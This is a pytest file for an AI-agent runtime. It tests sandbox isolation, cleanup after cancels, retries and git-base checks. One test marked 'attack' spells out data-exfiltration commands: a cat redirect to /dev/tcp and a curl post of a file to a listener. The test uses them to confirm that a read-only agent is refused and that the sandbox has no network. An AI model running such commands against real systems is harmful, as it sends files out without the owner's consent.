"""Mechanisms that only a real sandbox, a real process tree or a real repository can show."""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import time
from typing import Any

import pytest

from setpoint.app.manifest import load_task
from setpoint.app.runtime import Runtime
from setpoint.kernel.errors import ConflictFault

from .conftest import MENDED, Case, say, shell, write
from .test_a_lost_state import processes
from .test_h_i_sandbox import git


def test_the_supervisor_answers_while_a_command_sleeps(case: Case) -> None:
    """R095: while an action runs, a look at the store from the same loop is answered within a tenth of a second."""
    case.script(say(shell("sleep 1.5")), MENDED)
    task = load_task(str(case.task()))

    async def story() -> tuple[list[float], Any]:
        late: list[float] = []
        dispatched = asyncio.Event()

        def watch(turn: int, event: object, record: object) -> None:
            if type(event).__name__ == "ToolIntent":
                dispatched.set()

        async with case.runtime() as runtime:
            running = asyncio.create_task(runtime.converge(task, observer=watch))
            await dispatched.wait()
            await asyncio.sleep(0.3)  # past the start of the sandbox; the command sleeps now
            end = time.monotonic() + 0.8
            while (before := time.monotonic()) < end:
                await asyncio.sleep(0.01)
                runtime.record(runtime.newest())
                late.append(time.monotonic() - before - 0.01)
            assert not running.done()
            return late, await running

    late, outcome = asyncio.run(story())
    assert outcome.exit_code == 0
    assert sorted(late)[len(late) // 2] < 0.1, "at the median: this machine may hold up the odd one"
    assert len(late) > 8


def test_an_invariant_that_somebody_else_breaks_during_the_run_is_found_before_the_commit(case: Case) -> None:
    """R120: the user's own tree is judged again where it changed, and nothing is committed over it."""
    case.files({"src/keep": "kept"})
    case.script(say(write("src/other", "1")), MENDED)
    task = load_task(str(case.task(invariants=[{"id": "kept", "run": "test -e src/keep"}], policy={"stall_after": 2})))
    kept: list[int] = []

    def watch(turn: int, event: object, record: object) -> None:
        if type(event).__name__ == "SavepointKept" and not kept:
            kept.append(turn)
            (case.project / "src" / "keep").unlink()

    async def story() -> Any:
        async with case.runtime() as runtime:
            return await runtime.converge(task, observer=watch)

    outcome = asyncio.run(story())
    case.trajectory_id = outcome.trajectory_id
    assert kept == [1] and outcome.exit_code != 0
    assert "invariants/kept" in [item.address for item in outcome.record.items]
    assert (case.project / "src" / "value").read_text() == "3" and case.events("Committed") == []


def test_the_next_trajectory_sees_a_clean_base(case: Case) -> None:
    """R209: what one left in workspace, /tmp and home is gone for the next; only a commit would have stayed."""
    litter = "echo x > src/litter; echo x > /tmp/litter; echo x > ~/litter 2>/dev/null; echo x > data"
    outcome = case.converge(say(shell(litter)), policy={"stall_after": 1})
    assert outcome.exit_code == 11 and not (case.project / "src" / "litter").exists()
    first = outcome.trajectory_id
    outcome = case.converge(say(shell("ls -A src . /tmp ~ 2>/dev/null; find / -xdev -name litter 2>/dev/null")), MENDED)
    assert outcome.exit_code == 0 and outcome.trajectory_id != first
    result = case.events("ToolResult")[0]
    assert "litter" not in str(result.text) and "data" not in str(result.text).split()


@pytest.mark.attack
def test_an_agent_that_may_only_read_can_send_nothing_out(case: Case) -> None:
    """R215: a read-only grant, and behind it a sandbox without a network: nobody connects."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.settimeout(0.2)
        port = listener.getsockname()[1]
        sends = [
            f"cat src/value > /dev/tcp/127.0.0.1/{port}",
            f"bash -c 'cat src/value > /dev/tcp/127.0.0.1/{port}'",
            f"curl -s -d @src/value http://127.0.0.1:{port}/",
        ]
        reads = [{"tool": "shell_exec", "read_only": True}, {"tool": "file_read"}]
        outcome = case.converge(*[say(shell(command)) for command in sends], actions=reads)
        assert outcome.exit_code == 11
        assert [event.reason for event in case.events("Refused")] == ["OUTSIDE_GRANT"] * 3
        outcome = case.converge(say(*map(shell, sends)), MENDED)  # an agent that may run anything
        assert outcome.exit_code == 0 and all(event.exit_code != 0 for event in case.events("ToolResult")[:3])
        with pytest.raises(TimeoutError):
            listener.accept()


def test_after_a_cancel_no_process_lease_staging_or_program_is_left(case: Case) -> None:
    """R224: killed in the middle of a command that has a grandchild, by a `command:` route's own agent."""
    mark = f"mechanism-r224-{os.getpid()}"
    command = f"setsid sh -c ': {mark}; while :; do sleep 1; done' & sleep 613"
    calls = [{"name": "shell_exec", "arguments": {"command": command}}]
    case.files(
        {
            "agent.py": "import json, sys\n"
            f"for line in sys.stdin:  # {mark}\n"
            f"    print(json.dumps({{'calls': {calls!r}}}), flush=True)\n"
        },
        below=".",
    )
    task = load_task(str(case.task(models=[f"command:python3 agent.py {mark}"])))

    alive: list[Any] = []

    async def story() -> Any:
        async with case.runtime() as runtime:

            def kill() -> None:
                alive.extend(processes(mark))
                runtime.request(runtime.newest(), "kill", by="me")

            def watch(turn: int, event: object, record: object) -> None:
                if type(event).__name__ == "ToolIntent":
                    asyncio.get_running_loop().call_later(0.7, kill)

            outcome = await runtime.converge(task, observer=watch)
            assert runtime.log.holder(outcome.trajectory_id) is None
            return outcome

    outcome = asyncio.run(story())
    assert len(alive) >= 2, "the agent and the grandchild were there"
    assert outcome.record.state == "CANCELLED" and processes(mark) == []
    case.trajectory_id = outcome.trajectory_id
    staged = [p for p in (case.root / "home").rglob("*") if outcome.trajectory_id in p.name]
    assert staged == [] and case.tree()["src/value"][1] == b"3"


def test_a_retry_is_a_new_trajectory_that_names_its_parent(case: Case) -> None:
    """R225: the finished one stays as it ended; a resume of it changes nothing."""
    failed = case.converge(say(write("src/other", "x")))
    assert failed.exit_code == 11
    before = len(case.events())
    assert case.resume().record.state == "FAILED" and len(case.events()) == before
    case.script(MENDED)
    task = load_task(str(case.task()))

    async def again() -> Any:
        async with case.runtime() as runtime:
            return await runtime.converge(task, parent=failed.trajectory_id)

    outcome = asyncio.run(again())
    assert outcome.exit_code == 0 and outcome.trajectory_id != failed.trajectory_id
    assert outcome.record.parent == failed.trajectory_id
    assert outcome.record.spent.model_calls == 1, "with a budget of its own"


def test_a_workspace_that_is_as_desired_needs_no_base(case: Case, monkeypatch: pytest.MonkeyPatch) -> None:
    """R238, R004: converged from the required commit, it stays converged when it is converged again."""
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    git(case.project, "init", "-q")
    git(case.project, "add", ".")
    git(case.project, "commit", "-qm", "first")
    from .conftest import SPEC

    base = git(case.project, "rev-parse", "HEAD").strip()
    case.script(MENDED)
    task = load_task(str(case.task(environment={**SPEC["environment"], "base": base})))

    async def pursue() -> Any:
        async with case.runtime() as runtime:
            return await runtime.converge(task)

    assert asyncio.run(pursue()).exit_code == 0
    asked = len(case.prompts)
    assert asked == 1
    again = asyncio.run(pursue())
    assert again.exit_code == 0 and again.record.turn == 0 and len(case.prompts) == asked

    case.project.joinpath("src", "value").write_text("4")  # as if the check had flickered between the two looks at it
    met = again.record

    async def measure(self: Any, task: Any) -> Any:
        return met

    monkeypatch.setattr(Runtime, "measure", measure)
    before = case.tree()
    unmet = asyncio.run(pursue())
    assert unmet.exit_code == 11 and len(case.prompts) == asked and case.tree() == before


@pytest.mark.parametrize("state", ["clean", "dirty", "untracked", "another-commit", "no-such-commit", "no-repository"])
def test_only_the_required_commit_checked_out_clean_is_taken_as_base(case: Case, state: str) -> None:
    """R238: anything else is exit 15, before a model is asked or a line is logged."""
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    wanted = "0123456789abcdef0123456789abcdef01234567"
    if state != "no-repository":
        git(case.project, "init", "-q")
        git(case.project, "add", ".")
        git(case.project, "commit", "-qm", "first")
        wanted = git(case.project, "rev-parse", "HEAD").strip() if state != "no-such-commit" else wanted
    match state:
        case "dirty":
            (case.project / "src" / "value").write_text("4")
        case "untracked":
            (case.project / "src" / "mine").write_text("4")
        case "another-commit":
            (case.project / "src" / "value").write_text("4")
            git(case.project, "commit", "-qam", "second")
        case _:
            pass
    case.script(MENDED)
    from .conftest import SPEC

    task = load_task(str(case.task(environment={**SPEC["environment"], "base": wanted})))

    async def pursue() -> Any:
        async with case.runtime() as runtime:
            try:
                return await runtime.converge(task)
            finally:
                assert state == "clean" or runtime.trajectories() == []

    if state == "clean":
        assert asyncio.run(pursue()).exit_code == 0
        return
    before = case.tree()
    with pytest.raises(ConflictFault) as refused:
        asyncio.run(pursue())
    assert refused.value.exit_code == 15 and case.prompts == [] and case.tree() == before
    words = {
        "dirty": "src/value",
        "untracked": "src/mine",
        "another-commit": "its HEAD is",
        "no-such-commit": "no commit",
    }
    assert words.get(state, "") in str(refused.value)
